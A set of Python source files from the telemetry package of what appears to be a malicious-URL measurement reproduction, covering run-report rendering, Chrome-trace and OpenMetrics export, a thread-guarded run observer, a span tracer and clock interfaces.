    # -- JS sandbox: run-level gauges + per-script step distribution --------
    cache_hits = metrics.counter_total("jsengine.cache.hits")
    cache_misses = metrics.counter_total("jsengine.cache.misses")
    js = {
        "gauges": {
            key: value
            for key, value in observer.metrics.snapshot()["gauges"].items()
            if key.startswith("js.")
        },
        "op_count_distribution": metrics.histogram("js.op_count").summary(),
        # the per-source compiled-program cache (repro.jsengine): every
        # AST request is a hit or a miss; misses == distinct scripts
        "compile_cache": {
            "hits": int(cache_hits),
            "misses": int(cache_misses),
            "hit_rate": (cache_hits / (cache_hits + cache_misses)
                         if (cache_hits + cache_misses) else 0.0),
        },
    }

    events = {
        "emitted": observer.events.total_emitted,
        "dropped": observer.events.dropped,
        "tail": observer.events.tail(10),
    }

    report = {
        "exchanges": exchanges,
        "http": http,
        "redirects": redirects,
        "scan": scan,
        "staticjs": staticjs,
        "scanexec": scanexec,
        "crawlexec": crawlexec,
        "provenance": provenance,
        "dedup": dedup,
        "js": js,
        "spans": observer.tracer.summary(),
        "events": events,
        "metrics": metrics.snapshot(),
    }

    # -- deterministic work profile (only when the run was profiled) --------
    profiler = getattr(observer, "profiler", None)
    if profiler is not None:
        ledger = profiler.ledger
        report["work"] = {
            "totals": ledger.totals_by_kind(),
            "hot_paths": [
                {"path": ";".join(stack), "kind": kind, "units": units}
                for stack, kind, units in ledger.hot_paths(10)
            ],
            "cells": len(ledger),
        }
    memory_ledger = getattr(pipeline, "memory_ledger", None)
    if memory_ledger is not None:
        report["memory"] = memory_ledger.to_dict()

    return report


def attach_status_section(report: Dict[str, Any],
                          status_path: str) -> Dict[str, Any]:
    """Fold a live status file into the report as a ``status`` section.

    The section is the same snapshot schema ``repro watch --json``
    prints — post-hoc reports and live telemetry share one shape.  It
    is attached only on explicit request (``repro obs-report
    --status``), so baseline reports are untouched.
    """
    from .live import load_status_snapshot

    report["status"] = load_status_snapshot(status_path)
    return report


def render_run_report_markdown(report: Dict[str, Any],
                               title: str = "Run telemetry") -> str:
    """Render :func:`build_run_report` output as Markdown."""
    # imported here, not at module level: core.markdown pulls in the
    # analysis package, which imports httpsim, which imports obs.clock
    from ..core.markdown import markdown_table

    sections: List[str] = ["# %s" % title, ""]

    sections.append("## Per-exchange crawl\n")
    sections.append(markdown_table(
        ("Exchange", "Steps", "Member", "Self", "Popular", "Campaign",
         "Records", "Distinct", "URLs/s"),
        [
            (name, e["steps"], e["member_visits"], e["self_referrals"],
             e["popular_referrals"], e["campaign_visits"], e["records"],
             e["distinct_urls"], "%.1f" % e["urls_per_second"])
            for name, e in report["exchanges"].items()
        ],
    ))

    http = report["http"]
    sections.append("\n## HTTP layer\n")
    rows = [("requests", int(http["requests"])),
            ("redirect hops", int(http["redirect_hops"]))]
    rows.extend((("status %s" % cls), int(count))
                for cls, count in sorted(http["status_classes"].items()))
    sections.append(markdown_table(("Metric", "Count"), rows))
    latency = http["latency"]
    if latency["count"]:
        sections.append("\nRequest latency (s): p50 %.3f · p95 %.3f · p99 %.3f "
                        "· mean %.3f over %d requests"
                        % (latency["p50"], latency["p95"], latency["p99"],
                           latency["mean"], latency["count"]))

    redirects = report["redirects"]
    if redirects["depth_counts"]:
        sections.append("\n## Redirect-chain depth\n")
        sections.append(markdown_table(
            ("Hops", "Pages"),
            [(hops, count) for hops, count in redirects["depth_counts"].items()],
        ))

    scan = report["scan"]
    sections.append("\n## Scan phase\n")
    sections.append(markdown_table(
        ("Metric", "Count"),
        [("URLs scanned", scan["urls_scanned"]),
         ("malicious", scan["malicious"]),
         ("benign", scan["benign"]),
         ("unscanned queries", scan["unscanned_queries"]),
         ("blacklist hits", scan["blacklist_hits"])],
    ))
    if scan.get("unscanned_top"):
        sections.append("\n### Never-scanned URLs (top offenders)\n")
        sections.append(markdown_table(
            ("URL", "Queries"),
            [(url, int(count)) for url, count in scan["unscanned_top"]],
        ))
    if scan["engines"]:
        sections.append("\n### Per-engine detections\n")
        sections.append(markdown_table(
            ("Engine", "Detections", "Signature misses", "Heuristic FPs"),
            [
                (engine, int(count),
                 int(scan["engine_misses"].get(engine, 0)),
                 int(scan["heuristic_fps"].get(engine, 0)))
                for engine, count in sorted(scan["engines"].items(),
                                            key=lambda kv: -kv[1])
            ],
        ))
    if scan["quttera_threats"]:
        sections.append("\n### Quttera threats\n")
        sections.append(markdown_table(
            ("Severity", "Count"),
            [(sev, int(count)) for sev, count in sorted(scan["quttera_threats"].items())],
        ))

    staticjs = report.get("staticjs", {})
    if staticjs.get("scripts_analyzed"):
        sections.append("\n## Static pre-filter\n")
        rows = [("scripts analyzed", staticjs["scripts_analyzed"]),
                ("sandbox-skipped pages", staticjs["sandbox_skipped_pages"]),
                ("sandbox-executed pages", staticjs["sandbox_executed_pages"]),
                ("skipped scripts", staticjs["skipped_scripts"])]
        rows.extend((("verdict %s" % verdict), count)
                    for verdict, count in sorted(staticjs["verdicts"].items()))
        sections.append(markdown_table(("Metric", "Count"), rows))
        sections.append("\nSandbox skip rate %.1f%% · static/dynamic agreement %.1f%%"
                        % (100 * staticjs["sandbox_skip_rate"],
                           100 * staticjs["dynamic_agreement_rate"]))
        absint = staticjs.get("absint", {})
        if absint.get("skipped_pages") or absint.get("blocked_pages"):
            sections.append("\n### Abstract interpretation\n")
            rows = [("effect-replay skipped pages",
                     absint.get("skipped_pages", 0)),
                    ("static redirect targets",
                     absint.get("redirect_targets", 0))]
            rows.extend((("blocked: %s" % reason), count) for reason, count
                        in sorted(absint.get("blocked_pages", {}).items()))
            sections.append(markdown_table(("Metric", "Count"), rows))

    scanexec = report.get("scanexec", {})
    if scanexec.get("workers"):
        sections.append("\n## Scan executor\n")
        sections.append(markdown_table(
            ("Metric", "Value"),
            [("workers", scanexec["workers"]),
             ("shards", scanexec["shards"]),
             ("file tasks (sharded)", scanexec["file_tasks"]),
             ("URL tasks (serial lane)", scanexec["url_tasks"]),
             ("queue depth peak", scanexec["queue_depth_peak"])],
        ))
        shard_busy = scanexec["shard_busy"]
        if shard_busy["count"]:
            sections.append("\nShard busy time (s): p50 %.1f · p95 %.1f · max %.1f "
                            "over %d shards"
                            % (shard_busy["p50"], shard_busy["p95"],
                               shard_busy["max"], int(shard_busy["count"])))
        sections.append("\nSimulated scan makespan %.0fs parallel vs %.0fs serial "
                        "— %.1fx speedup at %.0f%% worker utilisation"
                        % (scanexec["parallel_seconds_est"],
                           scanexec["serial_seconds_est"],
                           scanexec["speedup_est"],
                           100 * scanexec["worker_utilisation"]))

    crawlexec = report.get("crawlexec", {})
    if crawlexec.get("workers"):
        sections.append("\n## Crawl executor\n")
        sections.append(markdown_table(
            ("Metric", "Value"),
            [("workers", crawlexec["workers"]),
             ("shards (exchanges)", crawlexec["shards"]),
             ("queue depth peak", crawlexec["queue_depth_peak"])],
        ))
        shard_busy = crawlexec["shard_busy"]
        if shard_busy["count"]:
            sections.append("\nShard busy time (s): p50 %.1f · p95 %.1f · max %.1f "
                            "over %d shards"
                            % (shard_busy["p50"], shard_busy["p95"],
                               shard_busy["max"], int(shard_busy["count"])))
        if crawlexec.get("fallback_serial"):
            sections.append("\nShared-state overlap detected — the crawl "
                            "re-ran through the bit-exact serial fallback.")
        else:
            sections.append("\nSimulated crawl makespan %.0fs parallel vs %.0fs "
                            "serial — %.1fx speedup at %.0f%% worker utilisation"
                            % (crawlexec["parallel_seconds_est"],
                               crawlexec["serial_seconds_est"],
                               crawlexec["speedup_est"],
                               100 * crawlexec["worker_utilisation"]))

    provenance = report.get("provenance", {})
    if provenance.get("records"):
        sections.append("\n## Verdict provenance\n")
        sections.append(markdown_table(
            ("Stage", "Records"),
            [(stage, int(count))
             for stage, count in provenance["stage_mix"].items()],
        ))
        sections.append("\n%d records, %.1f stages each on average "
                        "(`repro explain <url>` renders one chain)"
                        % (provenance["records"], provenance["mean_stages"]))

    dedup = report["dedup"]
    sections.append("\n## Dedup\n")
    sections.append("%d records; %d new URLs, %d duplicates (hit rate %.1f%%)"
                    % (dedup["records"], dedup["new_urls"],
                       dedup["duplicate_urls"], 100 * dedup["hit_rate"]))

    js = report["js"]
    cache = js.get("compile_cache", {})
    if js["gauges"] or cache.get("hits") or cache.get("misses"):
        sections.append("\n## JS sandbox\n")
        if js["gauges"]:
            sections.append(markdown_table(
                ("Gauge", "Value"),
                [(name, int(value)) for name, value in sorted(js["gauges"].items())],
            ))
        op_dist = js.get("op_count_distribution", {})
        if op_dist.get("count"):
            sections.append("\nInterpreter steps per script: p50 %.0f · p95 %.0f "
                            "· max %.0f over %d scripts"
                            % (op_dist["p50"], op_dist["p95"], op_dist["max"],
                               int(op_dist["count"])))
        if cache.get("hits") or cache.get("misses"):
            sections.append("\nCompile cache: %d hits, %d misses "
                            "(%.1f%% hit rate — misses are distinct scripts)"
                            % (cache["hits"], cache["misses"],
                               100 * cache["hit_rate"]))

    work = report.get("work")
    if work and work["totals"]:
        sections.append("\n## Work profile\n")
        vm_ops = work["totals"].get("js.vm.ops")
        steps = work["totals"].get("js.interp.steps")
        if vm_ops and steps:
            # vm backend: simulated steps (walker-parity accounting) vs
            # instructions actually dispatched — the gap is the
            # compile-time win (constant folding, fused tick weights)
            sections.append("Dispatch: %d simulated steps over %d vm "
                            "instructions (%.2f steps/op)\n"
                            % (int(steps), int(vm_ops), steps / vm_ops))
        sections.append(markdown_table(
            ("Path", "Kind", "Units"),
            [(hp["path"] or "(root)", hp["kind"], int(hp["units"]))
             for hp in work["hot_paths"]],
        ))
        sections.append("\n### Totals by kind\n")
        sections.append(markdown_table(
            ("Kind", "Units"),
            [(kind, int(units)) for kind, units in work["totals"].items()],
        ))

    memory = report.get("memory")
    if memory and memory["phases"]:
        sections.append("\n## Memory ledger\n")
        sections.append(markdown_table(
            ("Phase", "Allocated MiB", "Peak MiB"),
            [(name, "%.1f" % (p["allocated_bytes"] / 2**20),
              "%.1f" % (p["peak_bytes"] / 2**20))
             for name, p in memory["phases"].items()],
        ))
        if memory["objects"]:
            sections.append("\n### Object populations\n")
            sections.append(markdown_table(
                ("Population", "Objects"),
                [(name, count) for name, count in memory["objects"].items()],
            ))

    if report["spans"]:
        sections.append("\n## Spans\n")
        sections.append(markdown_table(
            ("Span", "Count", "Total s", "p50", "p95", "p99"),
            [
                (name, int(s["count"]), "%.2f" % s["total"], "%.3f" % s["p50"],
                 "%.3f" % s["p95"], "%.3f" % s["p99"])
                for name, s in report["spans"].items()
            ],
        ))

    events = report["events"]
    sections.append("\n## Events\n")
    sections.append("%d emitted, %d dropped by the ring bound"
                    % (events["emitted"], events["dropped"]))

    status = report.get("status")
    if status:
        from .live import render_status_text

        sections.append("\n## Live status (final snapshot)\n")
        sections.append("```\n%s\n```" % render_status_text(status))

    sections.append("")
    return "\n".join(sections)
