"""Span export: Chrome trace event format + critical-path summary.

Turns a run's :class:`~repro.obs.tracing.Tracer` spans — and, when the
scan phase went through :mod:`repro.scanexec`, the executor's per-shard
timeline — into a ``chrome://tracing`` / Perfetto-loadable JSON object
(the `Trace Event Format`_):

* top-level spans become complete (``ph: "X"``) events with
  microsecond ``ts``/``dur``,
* nested spans become begin/end (``ph: "B"`` / ``ph: "E"``) pairs so
  the viewer reconstructs the stack exactly as the tracer saw it,
* each scanexec worker slot gets its own track (``tid``), populated
  with the shards list-scheduled onto it — the same deterministic
  schedule the executor's simulated-makespan figure uses,
* ``ph: "M"`` metadata events name the process and every track.

All timestamps come off the run's injected clock (simulated seconds),
so a seeded trace is byte-identical across machines.

.. _Trace Event Format:
   https://docs.google.com/document/d/1CvAClvFfyA5R-PhYUmn5OOQtYMH4h6I0nSsKchNAySU
"""

from __future__ import annotations

import json
from typing import Any, Dict, List, Optional

from .observer import RunObserver
from .tracing import Span

__all__ = ["build_chrome_trace", "critical_path_summary", "render_openmetrics",
           "write_chrome_trace", "write_openmetrics"]

#: the synthetic pid all tracks share; tid 0 is the main pipeline track
TRACE_PID = 1
MAIN_TID = 0


def _microseconds(seconds: float) -> float:
    return seconds * 1_000_000.0


def _span_events(span: Span) -> List[Dict[str, Any]]:
    """One span as trace events: X when top-level, B/E pair when nested."""
    common: Dict[str, Any] = {
        "name": span.name,
        "cat": span.name.partition(".")[0] or "span",
        "pid": TRACE_PID,
        "tid": MAIN_TID,
        "args": dict(span.attrs),
    }
    if span.depth == 0:
        event = dict(common)
        event.update({"ph": "X", "ts": _microseconds(span.start),
                      "dur": _microseconds(span.duration)})
        return [event]
    begin = dict(common)
    begin.update({"ph": "B", "ts": _microseconds(span.start)})
    end = {"name": span.name, "cat": common["cat"], "ph": "E",
           "ts": _microseconds(span.end), "pid": TRACE_PID, "tid": MAIN_TID}
    return [begin, end]


def _metadata_event(name: str, tid: int, label: str) -> Dict[str, Any]:
    return {"name": name, "ph": "M", "pid": TRACE_PID, "tid": tid,
            "args": {"name": label}}


def build_chrome_trace(observer: RunObserver,
                       execution: Optional[object] = None) -> Dict[str, Any]:
    """Assemble the Chrome-trace JSON object for an observed run.

    ``execution`` is the pipeline's
    :class:`~repro.scanexec.ScanExecution` (or ``None`` after a serial
    scan); its shards are drawn on per-worker tracks ``tid = 1 + slot``,
    offset to the start of the ``scan`` span so the shard lanes line up
    underneath the scan phase on the main track.
    """
    events: List[Dict[str, Any]] = [
        _metadata_event("process_name", MAIN_TID, "repro pipeline"),
        _metadata_event("thread_name", MAIN_TID, "main"),
    ]
    for span in observer.tracer.finished:
        events.extend(_span_events(span))

    if execution is not None and getattr(execution, "shard_stats", None):
        scan_spans = observer.tracer.spans_named("scan")
        offset = scan_spans[0].start if scan_spans else 0.0
        workers = {stats.worker for stats in execution.shard_stats}
        for worker in sorted(workers):
            events.append(_metadata_event(
                "thread_name", 1 + worker, "scan-worker-%d" % worker))
        for stats in execution.shard_stats:
            events.append({
                "name": "scanexec.shard[%d]" % stats.index,
                "cat": "scanexec",
                "ph": "X",
                "ts": _microseconds(offset + stats.start_seconds),
                "dur": _microseconds(stats.busy_seconds),
                "pid": TRACE_PID,
                "tid": 1 + stats.worker,
                "args": {
                    "urls": stats.urls,
                    "domains": stats.domains,
                    "slowest_url": stats.slowest_url,
                    "slowest_seconds": stats.slowest_seconds,
                },
            })

    return {
        "traceEvents": events,
        "displayTimeUnit": "ms",
        "otherData": {
            "clock": type(observer.clock).__name__,
            "spans": len(observer.tracer.finished),
            "spans_dropped": observer.tracer.dropped,
        },
    }


def critical_path_summary(execution: object) -> Dict[str, Any]:
    """Where the parallel scan's makespan comes from.

    Per shard: the simulated busy time and the single slowest task (the
    stage a regression hunt should look at first).  The *critical
    worker* is the slot whose last shard finishes the makespan; its
    shard list is the critical path of the fan-out phase.
    """
    shard_stats = list(getattr(execution, "shard_stats", []) or [])
    shards = [
        {
            "index": stats.index,
            "worker": stats.worker,
            "urls": stats.urls,
            "busy_seconds": stats.busy_seconds,
            "slowest_url": stats.slowest_url,
            "slowest_seconds": stats.slowest_seconds,
        }
        for stats in shard_stats
    ]
    if not shards:
        return {"shards": [], "critical_worker": -1, "critical_seconds": 0.0,
                "critical_shards": []}
    ends: Dict[int, float] = {}
    for stats in shard_stats:
        ends[stats.worker] = max(ends.get(stats.worker, 0.0),
                                 stats.start_seconds + stats.busy_seconds)
    critical_worker = max(sorted(ends), key=lambda w: ends[w])
    critical = [s["index"] for s in shards if s["worker"] == critical_worker]
    return {
        "shards": shards,
        "critical_worker": critical_worker,
        "critical_seconds": ends[critical_worker],
        "critical_shards": critical,
    }


def write_chrome_trace(path: str, observer: RunObserver,
                       execution: Optional[object] = None) -> int:
    """Write the trace JSON to ``path``; returns the event count."""
    trace = build_chrome_trace(observer, execution)
    with open(path, "w", encoding="utf-8") as handle:
        json.dump(trace, handle, indent=1, sort_keys=True)
    return len(trace["traceEvents"])


# ---------------------------------------------------------------------------
# OpenMetrics / Prometheus text export
# ---------------------------------------------------------------------------
def _om_name(name: str) -> str:
    """A metric name sanitized to the OpenMetrics charset, ``repro_``-prefixed."""
    safe = "".join(ch if (ch.isascii() and (ch.isalnum() or ch in "_:"))
                   else "_" for ch in name)
    return "repro_" + safe


def _om_value(value: float) -> str:
    as_float = float(value)
    if as_float == int(as_float) and abs(as_float) < 1e15:
        return str(int(as_float))
    return repr(as_float)


def _om_labels(labels: Any, extra: Optional[List[Any]] = None) -> str:
    """Render a LabelKey (plus optional extra pairs) as ``{k="v",...}``."""
    pairs = list(labels) + (extra or [])
    if not pairs:
        return ""
    rendered = []
    for key, value in pairs:
        escaped = (str(value).replace("\\", "\\\\")
                   .replace('"', '\\"').replace("\n", "\\n"))
        rendered.append('%s="%s"' % (key, escaped))
    return "{%s}" % ",".join(rendered)


def render_openmetrics(registry: Any) -> str:
    """The registry in OpenMetrics text format, for external scrapers.

    ``registry`` is a :class:`~repro.obs.metrics.MetricsRegistry`.
    Counters get the mandatory ``_total`` sample suffix, histograms
    export cumulative ``_bucket{le=...}`` series plus ``_sum`` and
    ``_count``, gauges export as-is.  Families and samples render in
    sorted order, so a seeded run's export is byte-identical anywhere.
    """
    lines: List[str] = []
    by_family: Dict[str, List[Any]] = {}
    for (name, labels), counter in sorted(registry._counters.items()):
        by_family.setdefault(name, []).append((labels, counter))
    for name in sorted(by_family):
        family = _om_name(name)
        lines.append("# TYPE %s counter" % family)
        for labels, counter in by_family[name]:
            lines.append("%s_total%s %s"
                         % (family, _om_labels(labels), _om_value(counter.value)))
    by_family = {}
    for (name, labels), gauge in sorted(registry._gauges.items()):
        by_family.setdefault(name, []).append((labels, gauge))
    for name in sorted(by_family):
        family = _om_name(name)
        lines.append("# TYPE %s gauge" % family)
        for labels, gauge in by_family[name]:
            lines.append("%s%s %s"
                         % (family, _om_labels(labels), _om_value(gauge.value)))
    by_family = {}
    for (name, labels), histogram in sorted(registry._histograms.items()):
        by_family.setdefault(name, []).append((labels, histogram))
    for name in sorted(by_family):
        family = _om_name(name)
        lines.append("# TYPE %s histogram" % family)
        for labels, histogram in by_family[name]:
            cumulative = 0
            for index, bucket_count in enumerate(histogram.bucket_counts):
                cumulative += bucket_count
                edge = (_om_value(histogram.bounds[index])
                        if index < len(histogram.bounds) else "+Inf")
                lines.append("%s_bucket%s %d"
                             % (family,
                                _om_labels(labels, extra=[("le", edge)]),
                                cumulative))
            lines.append("%s_sum%s %s"
                         % (family, _om_labels(labels),
                            _om_value(histogram.total)))
            lines.append("%s_count%s %d"
                         % (family, _om_labels(labels), histogram.count))
    lines.append("# EOF")
    return "\n".join(lines) + "\n"


def write_openmetrics(path: str, registry: Any) -> int:
    """Write the OpenMetrics export to ``path``; returns the line count."""
    text = render_openmetrics(registry)
    with open(path, "w", encoding="utf-8") as handle:
        handle.write(text)
    return text.count("\n")
