"""The run observer: one object the pipeline threads everywhere.

Bundles a :class:`~repro.obs.metrics.MetricsRegistry`, a
:class:`~repro.obs.tracing.Tracer`, and an
:class:`~repro.obs.events.EventLog` on one shared clock, behind thin
convenience methods so instrumentation sites stay one-liners::

    if self.observer is not None:
        self.observer.count("crawl.steps", exchange=name)

``None`` is the disabled state: every hook in the pipeline guards with
a plain attribute test, so an unobserved run does no obs work at all.
:data:`NULL_OBSERVER` exists for code that prefers unconditional calls
(every method is a no-op and the object is falsy).
"""

from __future__ import annotations

from contextlib import contextmanager
from typing import Iterator, Optional

from .clock import Clock, SimClock
from .events import EventLog
from .metrics import MetricsRegistry
from .tracing import Span, Tracer

__all__ = ["RunObserver", "NullObserver", "NULL_OBSERVER"]


class RunObserver:
    """Metrics + tracing + events on a single clock."""

    def __init__(self, clock: Optional[Clock] = None, max_spans: int = 10_000,
                 event_capacity: int = 2048) -> None:
        self.clock = clock if clock is not None else SimClock()
        self.metrics = MetricsRegistry()
        self.tracer = Tracer(clock=self.clock, max_spans=max_spans)
        self.events = EventLog(capacity=event_capacity, clock=self.clock)

    def __bool__(self) -> bool:
        return True

    # -- metrics conveniences ------------------------------------------------
    def count(self, name: str, amount: float = 1.0, **labels: object) -> None:
        self.metrics.counter(name, **labels).inc(amount)

    def gauge_set(self, name: str, value: float, **labels: object) -> None:
        self.metrics.gauge(name, **labels).set(value)

    def gauge_max(self, name: str, value: float, **labels: object) -> None:
        self.metrics.gauge(name, **labels).set_max(value)

    def observe(self, name: str, value: float, **labels: object) -> None:
        self.metrics.histogram(name, **labels).observe(value)

    # -- tracing / events ----------------------------------------------------
    def span(self, name: str, **attrs: object):
        return self.tracer.span(name, **attrs)

    def event(self, kind: str, **fields: object) -> None:
        self.events.emit(kind, **fields)


class NullObserver:
    """API-compatible no-op; falsy so ``if observer:`` disables hooks."""

    def __bool__(self) -> bool:
        return False

    def count(self, name: str, amount: float = 1.0, **labels: object) -> None:
        pass

    def gauge_set(self, name: str, value: float, **labels: object) -> None:
        pass

    def gauge_max(self, name: str, value: float, **labels: object) -> None:
        pass

    def observe(self, name: str, value: float, **labels: object) -> None:
        pass

    @contextmanager
    def span(self, name: str, **attrs: object) -> Iterator[Optional[Span]]:
        yield None

    def event(self, kind: str, **fields: object) -> None:
        pass


#: shared no-op instance for unconditional call sites
NULL_OBSERVER = NullObserver()
