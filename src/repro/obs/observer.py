"""The run observer: one object the pipeline threads everywhere.

Bundles a :class:`~repro.obs.metrics.MetricsRegistry`, a
:class:`~repro.obs.tracing.Tracer`, and an
:class:`~repro.obs.events.EventLog` on one shared clock, behind thin
convenience methods so instrumentation sites stay one-liners::

    if self.observer is not None:
        self.observer.count("crawl.steps", exchange=name)

``None`` is the disabled state: every hook in the pipeline guards with
a plain attribute test, so an unobserved run does no obs work at all.
:data:`NULL_OBSERVER` exists for code that prefers unconditional calls
(every method is a no-op and the object is falsy).
"""

from __future__ import annotations

import threading
from contextlib import contextmanager, nullcontext
from typing import ContextManager, Iterator, Optional

from .clock import Clock, SimClock
from .events import EventLog
from .metrics import MetricsRegistry
from .profile import WorkProfiler
from .tracing import Span, Tracer

__all__ = ["RunObserver", "NullObserver", "NULL_OBSERVER"]

#: shared reusable no-op context for the profiler-disabled ``frame`` path —
#: allocating nothing keeps the disabled profiler at one ``is None`` test
_NULL_FRAME: ContextManager[None] = nullcontext()


class RunObserver:
    """Metrics + tracing + events on a single clock.

    The registries are deliberately lock-free (a crawl-loop increment is
    one dict lookup plus a float add), which makes the observer
    **single-threaded by contract**: on the parallel scanexec path,
    worker threads write to a per-shard
    :class:`~repro.scanexec.recording.RecordingObserver` and the
    executor replays the buffers on the main thread.  ``thread_guard``
    (on by default) enforces the contract — the observer binds to the
    first thread that mutates it and raises on any other thread instead
    of silently corrupting counters.
    """

    def __init__(self, clock: Optional[Clock] = None, max_spans: int = 10_000,
                 event_capacity: int = 2048, thread_guard: bool = True,
                 profile: bool = False) -> None:
        self.clock = clock if clock is not None else SimClock()
        self.metrics = MetricsRegistry()
        self.tracer = Tracer(clock=self.clock, max_spans=max_spans)
        self.events = EventLog(capacity=event_capacity, clock=self.clock)
        self.thread_guard = thread_guard
        #: work-accounting profiler; ``None`` unless ``profile=True``, and
        #: every hook below degrades to a single ``is None`` test when off
        self.profiler: Optional[WorkProfiler] = WorkProfiler() if profile else None
        #: live telemetry (repro.obs.live.LiveTelemetry) when attached;
        #: ``None`` keeps heartbeat() a single attribute test
        self.live: Optional[object] = None
        #: the owning thread id, bound lazily on first mutation (not at
        #: construction, so building the observer on a setup thread and
        #: running the pipeline elsewhere stays legal)
        self._owner_thread: Optional[int] = None

    def __bool__(self) -> bool:
        return True

    def _check_thread(self) -> None:
        if not self.thread_guard:
            return
        ident = threading.get_ident()
        owner = self._owner_thread
        if owner is None:
            self._owner_thread = ident
        elif owner != ident:
            raise RuntimeError(
                "RunObserver is single-threaded (lock-free registries): it is "
                "owned by thread %d but was mutated from thread %d. On worker "
                "threads, buffer telemetry in a repro.scanexec.RecordingObserver "
                "and replay it after the join; or pass thread_guard=False to "
                "accept lost updates." % (owner, ident))

    # -- metrics conveniences ------------------------------------------------
    def count(self, name: str, amount: float = 1.0, **labels: object) -> None:
        self._check_thread()
        self.metrics.counter(name, **labels).inc(amount)

    def gauge_set(self, name: str, value: float, **labels: object) -> None:
        self._check_thread()
        self.metrics.gauge(name, **labels).set(value)

    def gauge_max(self, name: str, value: float, **labels: object) -> None:
        self._check_thread()
        self.metrics.gauge(name, **labels).set_max(value)

    def observe(self, name: str, value: float, **labels: object) -> None:
        self._check_thread()
        self.metrics.histogram(name, **labels).observe(value)

    def heartbeat(self, phase: str, **fields: object) -> None:
        """Forward a progress beat to the attached live telemetry, if any."""
        self._check_thread()
        live = self.live
        if live is not None:
            live.heartbeat(phase, **fields)  # type: ignore[attr-defined]

    # -- tracing / events ----------------------------------------------------
    def span(self, name: str, **attrs: object):
        self._check_thread()
        return self.tracer.span(name, **attrs)

    def event(self, kind: str, **fields: object) -> None:
        self._check_thread()
        self.events.emit(kind, **fields)

    # -- work profiling ------------------------------------------------------
    def work(self, kind: str, amount: float = 1.0) -> None:
        """Attribute ``amount`` work units of ``kind`` to the current frame."""
        if self.profiler is not None:
            self._check_thread()
            self.profiler.add(kind, amount)

    def frame(self, name: str) -> ContextManager[None]:
        """Push a profiler frame for the duration of the ``with`` body."""
        if self.profiler is None:
            return _NULL_FRAME
        self._check_thread()
        return self.profiler.frame(name)

    def frame_push(self, name: str) -> None:
        if self.profiler is not None:
            self._check_thread()
            self.profiler.push(name)

    def frame_pop(self) -> None:
        if self.profiler is not None:
            self._check_thread()
            self.profiler.pop()


class NullObserver:
    """API-compatible no-op; falsy so ``if observer:`` disables hooks."""

    #: mirrors :attr:`RunObserver.profiler` in its disabled state
    profiler: Optional[WorkProfiler] = None
    #: mirrors :attr:`RunObserver.live` in its detached state
    live: Optional[object] = None

    def __bool__(self) -> bool:
        return False

    def count(self, name: str, amount: float = 1.0, **labels: object) -> None:
        pass

    def gauge_set(self, name: str, value: float, **labels: object) -> None:
        pass

    def gauge_max(self, name: str, value: float, **labels: object) -> None:
        pass

    def observe(self, name: str, value: float, **labels: object) -> None:
        pass

    def heartbeat(self, phase: str, **fields: object) -> None:
        pass

    @contextmanager
    def span(self, name: str, **attrs: object) -> Iterator[Optional[Span]]:
        yield None

    def event(self, kind: str, **fields: object) -> None:
        pass

    def work(self, kind: str, amount: float = 1.0) -> None:
        pass

    def frame(self, name: str) -> ContextManager[None]:
        return _NULL_FRAME

    def frame_push(self, name: str) -> None:
        pass

    def frame_pop(self) -> None:
        pass


#: shared no-op instance for unconditional call sites
NULL_OBSERVER = NullObserver()
