"""Span-based tracing with an injectable monotonic clock.

Usage::

    tracer = Tracer(clock=SimClock())
    with tracer.span("scan.virustotal", url=url):
        ...

Spans nest (the tracer keeps a stack), record start/end on the shared
clock, and land in a bounded ``finished`` list.  With a
:class:`~repro.obs.clock.SimClock` the trace of a seeded run is
byte-identical across machines — durations measure *simulated* work
(e.g. 50 ms per HTTP request), which is exactly what the redirect-chain
and throughput analyses want to attribute.
"""

from __future__ import annotations

from contextlib import contextmanager
from dataclasses import dataclass, field
from typing import Dict, Iterator, List, Optional

from .clock import Clock, SimClock

__all__ = ["Span", "Tracer"]


@dataclass
class Span:
    """One timed operation."""

    name: str
    start: float
    end: float = 0.0
    depth: int = 0
    parent: Optional[str] = None
    attrs: Dict[str, str] = field(default_factory=dict)

    @property
    def duration(self) -> float:
        return self.end - self.start

    def to_dict(self) -> Dict[str, object]:
        return {
            "name": self.name,
            "start": self.start,
            "end": self.end,
            "duration": self.duration,
            "depth": self.depth,
            "parent": self.parent,
            "attrs": dict(self.attrs),
        }


class Tracer:
    """Records nested spans on one shared clock."""

    def __init__(self, clock: Optional[Clock] = None, max_spans: int = 10_000) -> None:
        self.clock = clock if clock is not None else SimClock()
        self.max_spans = max_spans
        self.finished: List[Span] = []
        self.dropped = 0
        self._stack: List[Span] = []

    @property
    def depth(self) -> int:
        return len(self._stack)

    @contextmanager
    def span(self, name: str, **attrs: object) -> Iterator[Span]:
        parent = self._stack[-1].name if self._stack else None
        span = Span(
            name=name,
            start=self.clock.now(),
            depth=len(self._stack),
            parent=parent,
            attrs={key: str(value) for key, value in attrs.items()},
        )
        self._stack.append(span)
        try:
            yield span
        finally:
            span.end = self.clock.now()
            self._stack.pop()
            if len(self.finished) < self.max_spans:
                self.finished.append(span)
            else:
                self.dropped += 1

    # -- reading -------------------------------------------------------------
    def spans_named(self, name: str) -> List[Span]:
        return [span for span in self.finished if span.name == name]

    def durations(self, name: str) -> List[float]:
        return [span.duration for span in self.spans_named(name)]

    def summary(self) -> Dict[str, Dict[str, float]]:
        """Per-name {count, total, p50, p95, p99} over finished spans."""
        grouped: Dict[str, List[float]] = {}
        for span in self.finished:
            grouped.setdefault(span.name, []).append(span.duration)
        out: Dict[str, Dict[str, float]] = {}
        for name, values in sorted(grouped.items()):
            values.sort()
            out[name] = {
                "count": len(values),
                "total": sum(values),
                "p50": _sorted_percentile(values, 0.50),
                "p95": _sorted_percentile(values, 0.95),
                "p99": _sorted_percentile(values, 0.99),
            }
        return out


def _sorted_percentile(values: List[float], q: float) -> float:
    """Nearest-rank percentile of an already-sorted list."""
    if not values:
        return 0.0
    rank = max(0, min(len(values) - 1, int(round(q * (len(values) - 1)))))
    return values[rank]
