"""Injectable clocks — the single time source for all telemetry.

The paper's measurement correlates timestamps across layers (crawl
steps, HAR entries, scan latencies); a reproduction must do the same
*deterministically*.  Every obs component (tracer, event log) and the
HTTP client's HAR capture take a :class:`Clock` so one simulated clock
can drive them all: no ``time.time()`` drift between layers, and seeded
runs produce byte-identical traces.

:class:`SimClock` is the deterministic default — it only moves when the
simulation says so (the HTTP client charges 50 ms per request, exactly
the constant it always used).  :class:`MonotonicClock` is the wall-time
option for profiling real hardware.
"""

from __future__ import annotations

import time

__all__ = ["Clock", "SimClock", "MonotonicClock"]


class Clock:
    """Minimal clock interface: ``now()`` in (fractional) seconds."""

    def now(self) -> float:  # pragma: no cover - interface
